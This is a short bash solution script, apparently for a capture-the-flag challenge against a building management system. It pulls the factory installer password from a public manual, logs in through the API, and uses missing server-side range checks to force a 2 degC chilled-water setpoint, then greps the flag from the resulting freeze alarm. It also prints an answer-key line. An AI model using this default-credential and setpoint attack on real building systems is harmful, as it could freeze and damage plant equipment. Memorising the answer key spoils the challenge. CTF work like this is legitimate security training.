#!/bin/bash
# Default installer credentials from the public manual; the API does not
# enforce the UI's 5..12 degC range, so a 2 degC chilled-water setpoint is
# accepted and raises the freeze alarm carrying the proof.
set -e
B=http://bms:8080
PW=$(curl -s $B/docs/manual.txt | sed -n 's/.*installer  - factory password "\([^"]*\)".*/\1/p')
TOK=$(curl -s -d "{\"user\":\"installer\",\"password\":\"$PW\"}" $B/api/login | python3 -c 'import json,sys;print(json.load(sys.stdin)["token"])')
echo "answer[1]: installer"
curl -s -H "Authorization: Bearer $TOK" -d '{"value": 2.0}' $B/api/points/CH-1.chw_supply_sp >&2
curl -s -H "Authorization: Bearer $TOK" $B/api/alarms | grep -o 'flag{[0-9a-f]*}'
